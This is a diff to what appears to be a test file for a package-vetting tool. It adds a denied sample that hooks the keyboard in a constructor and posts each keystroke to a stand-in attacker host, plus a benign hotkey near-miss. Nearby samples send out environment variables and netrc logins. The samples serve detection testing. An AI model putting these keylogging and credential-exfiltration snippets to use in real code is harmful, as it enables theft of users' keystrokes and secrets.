@@ -5,8 +5,8 @@ command or written to a started ``nc``'s stdin, the Windows clipboard read throu
 its source does not show, rot13 undone with ``codecs.encode``, an audit hook that sends what
 it is handed, an installer's index changed through ``~/.pydistutils.cfg``, and the
 environment or a credential file read through ``os.environb``, ``/proc/self/environ``,
-``printenv``, ``Path.home()``, ``ConfigParser.read``, the ``netrc`` module or a buffer held
-in an attribute, and sent.
+``printenv``, ``Path.home()``, ``ConfigParser.read``, the ``netrc`` module, a buffer held
+in an attribute or a key hook made in a constructor, and sent.
 
 Each sample is inert (a command ``id`` or a download from ``attacker.invalid``; vetting
 only reads files) and each was allowed or only held on e5ee481. The near-misses are the
@@ -143,6 +143,12 @@ DENIED: dict[str, str] = {
         "        self.buf = io.StringIO()\n        json.dump(dict(os.environ), self.buf)\n"
         "        " + POST.format(data="self.buf.getvalue()") + "\n\n\nS()\n"
     ),
+    "keys-from-a-hook-made-in-a-constructor": (
+        "import requests\nfrom pynput import keyboard\n\n\nclass K:\n    def __init__(self):\n"
+        "        self.listener = keyboard.Listener(on_press=self.on)\n"
+        "        self.listener.start()\n\n    def on(self, key):\n"
+        "        " + POST.format(data="str(key)") + "\n\n\nK()\n"
+    ),
     "logins-through-the-netrc-module": (
         "import netrc, requests\n" + POST.format(data="str(netrc.netrc().hosts)") + "\n"
     ),
@@ -179,6 +185,12 @@ ALLOWED: dict[str, str] = {
         "import io, json\n\n\nclass S:\n    def __init__(self):\n"
         "        self.buf = io.StringIO()\n        json.dump({'theme': 'dark'}, self.buf)\n\n\n"
         "DEFAULTS = S()\n"
+    ),
+    "hotkey-class-that-sends-nothing": (
+        "from pynput import keyboard\n\n\nclass Hotkeys:\n    def __init__(self):\n"
+        "        self.pressed = []\n"
+        "        self.listener = keyboard.Listener(on_press=self.on)\n\n"
+        "    def on(self, key):\n        self.pressed.append(key)\n\n\nHOTKEYS = Hotkeys()\n"
     ),
     "own-registry-settings-key": (
         "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER, 'Software\\\\evpkg')\n"
